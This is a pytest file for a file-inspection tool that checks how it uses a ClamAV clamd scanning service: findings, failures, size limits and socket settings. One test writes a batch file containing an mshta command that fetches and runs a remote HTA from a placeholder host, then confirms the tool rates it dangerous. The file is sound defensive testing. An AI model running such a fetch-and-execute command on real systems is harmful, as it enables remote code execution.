import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from gifthorse.inspect import clamd
from gifthorse.inspect.engine import Options, inspect
from gifthorse.model.findings import Finding, Severity
from gifthorse.model.inspections import Inspection, Verdict
from tests.samples.files import jpeg
from tests.samples.virus_scanner import WORD, VirusScanner

pytestmark = pytest.mark.enable_socket


@pytest.fixture
def scanner(tmp_path: Path) -> Iterator[VirusScanner]:
    made = VirusScanner(tmp_path)
    yield made
    made.close()


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "gift"
    (made / "inner").mkdir(parents=True)
    (made / "letter.txt").write_text("Dear friend\n")
    (made / "inner" / "note.txt").write_bytes(WORD)
    return made


def told(inspection: Inspection) -> list[Finding]:
    return [finding for finding in inspection.findings if finding.id.startswith("rules.")]


def test_what_the_service_knows_is_a_finding_with_its_name_and_version(scanner: VirusScanner, folder: Path) -> None:
    (finding,) = told(inspect(str(folder), options=Options(clamd=scanner.address)))
    assert (finding.id, finding.severity, finding.detector) == ("rules.match", Severity.HIGH, "clamd@9.9.9")
    assert finding.evidence[0].path == "inner/note.txt"
    assert finding.detail is not None
    assert "Test.Word-1" in finding.detail.in_english()
    assert sorted(scanner.heard) == [b"Dear friend\n", WORD]


def test_that_it_knows_nothing_never_lowers_a_verdict(scanner: VirusScanner, tmp_path: Path) -> None:
    path = tmp_path / "a.bat"
    path.write_text("mshta http://host.invalid/a.hta\n")
    inspection = inspect(str(path), options=Options(clamd=scanner.address))
    assert inspection.verdict is Verdict.DANGEROUS
    assert len(scanner.heard) == 1
    assert "ClamAV 9.9.9/12345" in inspection.engine.rules


def test_a_service_that_does_not_answer_is_told_and_changes_no_verdict(folder: Path) -> None:
    inspection = inspect(str(folder), options=Options(clamd="/nowhere/clamd.ctl"))
    (finding,) = told(inspection)
    assert (finding.id, finding.severity) == ("rules.scanner-failed", Severity.INFO)
    assert inspection.verdict is Verdict.CLEAR


def test_an_answer_that_is_none_is_told(tmp_path: Path, folder: Path) -> None:
    odd = VirusScanner(tmp_path, answers=b"INSTREAM size limit exceeded. ERROR")
    try:
        (finding,) = told(inspect(str(folder), options=Options(clamd=odd.address)))
    finally:
        odd.close()
    assert finding.id == "rules.scanner-failed"
    assert finding.detail is not None
    assert "size limit" in finding.detail.in_english()


def test_doubtful_names_are_medium(tmp_path: Path, folder: Path) -> None:
    odd = VirusScanner(tmp_path, answers=b"stream: PUA.Win.Packer FOUND")
    try:
        findings = told(inspect(str(folder), options=Options(clamd=odd.address)))
    finally:
        odd.close()
    assert {finding.severity for finding in findings} == {Severity.MEDIUM}


def test_a_file_beyond_the_limit_is_left_out_and_counted(scanner: VirusScanner, tmp_path: Path) -> None:
    path = tmp_path / "a.jpg"
    with path.open("wb") as film:
        film.write(jpeg())
        os.truncate(film.fileno(), clamd.LARGEST + 1)
    inspection = inspect(str(path), options=Options(clamd=scanner.address))
    assert scanner.heard == []
    assert "asked about 0 files, 1 left out" in inspection.engine.rules


def test_the_environment_says_where_the_service_listens(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CLAMD_SOCKET", "/somewhere/clamd.ctl")
    assert clamd.address() == "/somewhere/clamd.ctl"
    assert clamd.address("off") is None
    assert clamd.address("/else") == "/else"
